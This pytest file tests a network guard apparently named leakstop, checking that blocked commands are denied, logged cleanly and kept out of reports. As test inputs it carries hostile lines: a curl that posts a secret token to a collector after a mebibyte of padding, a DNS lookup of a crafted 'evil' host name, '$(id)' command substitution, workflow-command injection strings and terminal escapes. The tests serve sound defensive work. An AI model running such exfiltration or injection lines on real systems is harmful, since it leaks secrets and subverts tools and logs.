# SPDX-License-Identifier: MIT
"""Command lines and names that no honest program has: the guard holds, its files stay readable."""

from __future__ import annotations

import json
import os
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from lab import Lab
from lab.guard import DENIED, FINDINGS, Guarded
from lab.network import BARE
from lab.tokens import Token

pytestmark = pytest.mark.root

Run = Callable[..., Guarded]
BLOCK = "version: 1\nmode: block\nallow: home.test\n"
VISIT = "curl -sS -m 5 http://{address}/; exit 0"
ODD = {
    "no UTF-8": [b"\xff\xfe\x80", b"ok\xc3", b"\xed\xa0\x80"],
    "control characters": [b"a\nb\r\n", b"\x1b]0;title\x07\x1b[2J", b"\x7f\x01"],
    "workflow commands": [b"::error::x", b"::stop-commands::y", b"%0A::set-output name=a::b"],
    "nothing at all": [b"", b"", b" ", b"\t"],
    "quotes": [b"\"'`$(id)\\", b"</details>|\n```", b"\xe2\x80\xae\xe2\x80\x8b"],
    "many": [b"x"] * 5000,
}


def journal(done: Guarded) -> list[dict[str, Any]]:
    """Every line of the journal; it must be UTF-8, and every line JSON."""
    lines = (done.directory / "events.ndjson").read_bytes().decode().splitlines()
    return [json.loads(line) for line in lines]


def assert_held(done: Guarded, lab: Lab) -> None:
    """The denial is there, nothing was lost, and all files can be read."""
    assert done.code == DENIED, done.stderr
    assert lab.collector.bytes_received == 0
    assert [flow["ip"] for flow in done.report["flows"]] == [BARE]
    assert done.report["coverage"]["lost_events"] == 0
    assert [event["kind"] for event in journal(done)][-1] == "finished"
    summary = (done.directory / "summary.md").read_bytes().decode()
    for text in (summary, done.stderr):
        assert not {"\x1b", "\x07", "\x7f", "\u202e"} & set(text)
        assert not any(line.startswith("::") for line in text.splitlines())


@pytest.mark.parametrize("kind", ODD)
def test_odd_arguments_are_written_down_and_harm_nothing(
    leakstop: Run, lab: Lab, kind: str
) -> None:
    command = [b"sh", b"-c", VISIT.format(address=BARE).encode(), *ODD[kind]]
    done = leakstop(list(map(os.fsdecode, command)), policy=BLOCK)
    assert_held(done, lab)
    (shell,) = [
        event for event in journal(done) if event["kind"] == "exec" and event["argv"][1:2] == ["-c"]
    ]
    assert shell["argv_bytes"] == sum(len(argument) + 1 for argument in command)


def test_a_program_whose_name_is_no_utf8(leakstop: Run, lab: Lab, tmp_path: Path) -> None:
    program = os.fsencode(tmp_path) + b"/\xff\n::error::\x1b[31m"
    with open(program, "wb") as file:
        file.write(b"#!/bin/sh\n" + VISIT.format(address=BARE).encode())
    os.chmod(program, 0o755)
    assert_held(leakstop([os.fsdecode(program)], policy=BLOCK), lab)


def test_a_program_without_any_argument(leakstop: Run, lab: Lab) -> None:
    """Not even its own name: execve with an empty list."""
    script = (
        "import ctypes, os, subprocess\n"
        "if os.fork() == 0:\n"
        "    ctypes.CDLL(None).execve(b'/bin/true', (ctypes.c_char_p * 1)(None), None)\n"
        "os.wait()\n"
        f"subprocess.run(['curl', '-sS', '-m', '5', 'http://{BARE}/'])\n"
    )
    done = leakstop([sys.executable, "-c", script], policy=BLOCK)
    assert_held(done, lab)
    bare = [e for e in journal(done) if e["kind"] == "exec" and e["exe"].endswith("/true")]
    assert [event["argv"] for event in bare] in ([[]], [[""]])


def test_a_mebibyte_of_arguments(leakstop: Run, lab: Lab) -> None:
    """One argument has at most 128 KiB, so it takes several."""
    arguments = ["x" * 120 * 1024] * 9
    done = leakstop(["sh", "-c", VISIT.format(address=BARE), *arguments], policy=BLOCK)
    assert_held(done, lab)
    longest = max(event["argv_bytes"] for event in journal(done) if event["kind"] == "exec")
    assert longest > 1024 * 1024


def test_a_secret_at_the_end_of_a_mebibyte_is_stopped(
    leakstop: Run, lab: Lab, secret: Token
) -> None:
    script = (
        f"x=$(printf '%0100000d' 0); set --; "
        f'for i in 1 2 3 4 5 6 7 8 9; do set -- "$@" -H "X-$i: $x"; done; '
        f'curl -sS -m 5 "$@" -d "${secret.name}" http://{BARE}/; exit 0'
    )
    done = leakstop(["sh", "-c", script], secrets=[secret])
    assert done.code == FINDINGS, done.stderr
    assert lab.collector.bytes_of(secret.value.encode()) == 0
    assert done.findings("secret-in-argv")
    assert done.shows(secret) == []
    assert journal(done)[-1]["kind"] == "finished"


def test_a_name_of_bytes_is_not_believed_and_denied(leakstop: Run, lab: Lab) -> None:
    """What is no host name cannot be judged as one, so it does not get out."""
    name = r"\255\027\010evil\200.collector.test"
    done = leakstop(["sh", "-c", f"dig +tries=1 +time=1 '{name}'; exit 0"], policy=BLOCK)
    assert done.code == DENIED, done.stderr
    assert not lab.dns.received(b"evil")
    (question,) = [event for event in journal(done) if event["kind"] == "question"]
    assert (question["applied"], question["reason"]) == ("deny", "unparsable")
    assert not {"\x1b", "\x17", "\x08"} & set(done.stderr)
